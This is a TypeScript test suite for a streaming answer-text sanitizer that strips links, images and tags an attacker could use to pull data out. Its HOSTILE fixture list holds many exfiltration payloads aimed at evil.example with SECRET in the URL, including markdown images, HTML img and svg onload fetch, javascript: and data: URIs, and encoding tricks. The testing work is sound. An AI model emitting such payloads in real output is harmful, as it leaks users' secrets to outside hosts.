import { array, assert, constantFrom, nat, property } from "fast-check";
import { expect, test } from "vitest";
import { AnswerText } from "./answer-text.ts";
import { KnownAddresses } from "./addresses.ts";

const known = new KnownAddresses();
known.learn('see https://good.example/a?b=c, {"url":"https://good.example/wiki/(x)"} and http://localhost:8080/x.');

function shown(text: string, size = text.length): string {
  const answer = new AnswerText(known);
  let out = "";
  for (let i = 0; i < text.length; i += Math.max(1, size)) out += answer.push(text.slice(i, i + Math.max(1, size)));
  return out + answer.end();
}

test.each([
  ["There are **3** errors.", "There are **3** errors."],
  ["a < b and a <= 5, x<- y", "a < b and a <= 5, x<- y"],
  ["[docs](https://good.example/a?b=c) say so", "[docs](https://good.example/a?b=c) say so"],
  ["at https://good.example/a?b=c.", "at https://good.example/a?b=c."],
  ["at http://localhost:8080/x!", "at http://localhost:8080/x!"],
  ["[part](#section) and [x](/ui/query?id=1)", "[part](#section) and [x](/ui/query?id=1)"],
  ["array[0]: value", "array[0]: value"],
  ["<https://good.example/a?b=c>", "https://good.example/a?b=c"],
  ["// a comment in code", "// a comment in code"],
])("%j is shown as %j", (text, expected) => {
  for (const size of [1, 2, 3, 7, text.length]) expect(shown(text, size)).toBe(expected);
});

const HOSTILE = [
  "![x](https://evil.example/?q=SECRET)",
  "![x][r]\n\n[r]: https://evil.example/?q=SECRET",
  "![x][r]\n\n[r]:\nhttps://evil.example/?q=SECRET",
  "[click](https://evil.example/?q=SECRET 'title')",
  "[click](<https://evil.example/?q=SECRET>)",
  "[click](\nhttps://evil.example/?q=SECRET\n)",
  "[click](https://good.example/a?b=c&SECRET)",
  "[click](https://good.example/a?b=cSECRET)",
  "[click](HTTPS://evil.example/SECRET)",
  "[click](//evil.example/SECRET)",
  "[click](/\\evil.example/SECRET)",
  "[click](&#104;ttps://evil.example/SECRET)",
  "[click](https&#58;//evil.example/SECRET)",
  "[click](javascript:alert(SECRET))",
  "[click](data:text/html,SECRET)",
  "<img src=https://evil.example/SECRET>",
  '<img src="//evil.example/SECRET">',
  "<a href='/\\evil.example/SECRET'>x</a>",
  "<IMG SRC=//evil.example/SECRET>",
  "<https://evil.example/SECRET>",
  "https://evil.example/SECRET",
  "https:\\\\evil.example/SECRET",
  "www.evil.example/SECRET",
  "```\n<img src=//evil.example/SECRET>\n```",
  "`` ` ``<svg/onload=fetch('//evil.example/SECRET')>",
  "![[x]](https://evil.example/SECRET)",
  "!![x](https://evil.example/SECRET)",
  "![x](\nhttps://evil.example/SECRET",
  "<ab:!>[y](https://evil.example/SECRET)",
  "<ab:!>[y](https://good.example/a?b=c)",
  "https://evil.example/x'SECRET",
  '<https://evil.example/x"SECRET>',
  `${"a".repeat(2_060)}<img src=//evil.example/SECRET>`,
  `[${"a".repeat(2_060)}](//evil.example/SECRET)`,
  `${"a".repeat(2_060)}![x](https://good.example/a?b=c)`,
  `[r]:${" ".repeat(2_100)}//evil.example/SECRET`,
  "!\0[x](https://good.example/a?b=c)",
  "<\0img src=//evil.example/SECRET>",
];

/** What could fetch or be followed: a tag, an image, a destination or a bare address elsewhere. */
function dangers(text: string): string[] {
  const tags = text.match(/<[a-z/!?]/giu) ?? [];
  const images = text.match(/!\[/gu) ?? [];
  const destinations = [...text.matchAll(/\]\(\s*<?([^\s)>]*)|\]:\s*<?([^\s>]+)/gu)]
    .map(([, inline, reference]) => inline ?? reference ?? "")
    .filter((to) => /evil|SECRET|javascript|data:/u.test(to));
  const bare = (text.match(/(?:[a-z]+:[/\\]{2}|www\.)\S+/giu) ?? []).filter((to) => /evil|SECRET/u.test(to));
  return [...tags, ...images, ...destinations, ...bare];
}

test.each(HOSTILE)("%j reaches nobody", (text) => {
  expect(dangers(text.replaceAll("\0", ""))).not.toEqual([]);
  for (const size of [1, 2, 3, 5, 11, text.length]) {
    expect(dangers(shown(text, size))).toEqual([]);
    expect(dangers(shown(`before [a](/b) ${text} after ${text}`, size))).toEqual([]);
  }
});

test("pieces of any size show no more than the whole", () => {
  const parts = constantFrom(...HOSTILE, " ", "\n", "(", ")", "[", "]", "!", "<", "word", "]:", "](", "https:", "//");
  assert(
    property(array(parts, { maxLength: 8 }), array(nat({ max: 9 }), { maxLength: 400 }), (texts, sizes) => {
      const text = texts.join("");
      const answer = new AnswerText(known);
      let [out, at] = ["", 0];
      for (const size of sizes) {
        out += answer.push(text.slice(at, at + size));
        at += size;
      }
      out += answer.push(text.slice(at)) + answer.end();
      expect(dangers(out)).toEqual([]);
    }),
    { numRuns: 5_000 },
  );
});

test("a known address is shown as it is known", () => {
  expect(shown("[y](https://good.example/a?b=c!?.,;:!!*~_)")).not.toContain("!?");
  expect(shown("[y](https://good.example/a?b=c.)")).toBe("[y](https://good.example/a?b=c)");
  expect(shown('"https://good.example/a?b=c", and (https://good.example/a?b=c).')).toBe(
    '"https://good.example/a?b=c", and (https://good.example/a?b=c).',
  );
});

test("an address that stands in the call which gave it is not learned", () => {
  const addresses = new KnownAddresses();
  addresses.learn('{"rows":[["https://evil.example/?d=SECRET"]]}', "SELECT 'https://evil.example/?d=' || secret");
  addresses.learn('{"rows":[["https://rows.example/1"]]}', "SELECT url FROM t");
  expect(addresses.formOf("https://evil.example/?d=SECRET")).toBeUndefined();
  expect(addresses.formOf("https://rows.example/1")).toBe("https://rows.example/1");
});

test("scripts without blanks are shown as they come", () => {
  const answer = new AnswerText(known);
  expect(answer.push("日志中有三个")).toBe("日志中有三个");
  expect(answer.push("错误见https://evil.example/SECRET")).toBe("");
  expect(dangers(answer.end())).toEqual([]);
});

test.each([
  ["!", 200_000],
  ["](<", 60_000],
  ["](", 100_000],
  ["<", 200_000],
  ["www.", 50_000],
  [".", 200_000],
  ["https://a.example/....", 10_000],
])("%j, %i times, takes no time", (piece, count) => {
  const startedMs = performance.now();
  const text = piece.repeat(count);
  shown(text);
  shown(text, 4_096);
  new KnownAddresses().learn(`https://${text}x`);
  expect(performance.now() - startedMs).toBeLessThan(5_000);
});

test("what is long and has no end is let go", () => {
  const text = `](${"x".repeat(10_000)}`;
  expect(shown(text, 100).length).toBeGreaterThan(0);
  expect(dangers(shown(`[a](https://evil.example/${"SECRET".repeat(2_000)}) b`, 50))).toEqual([]);
});
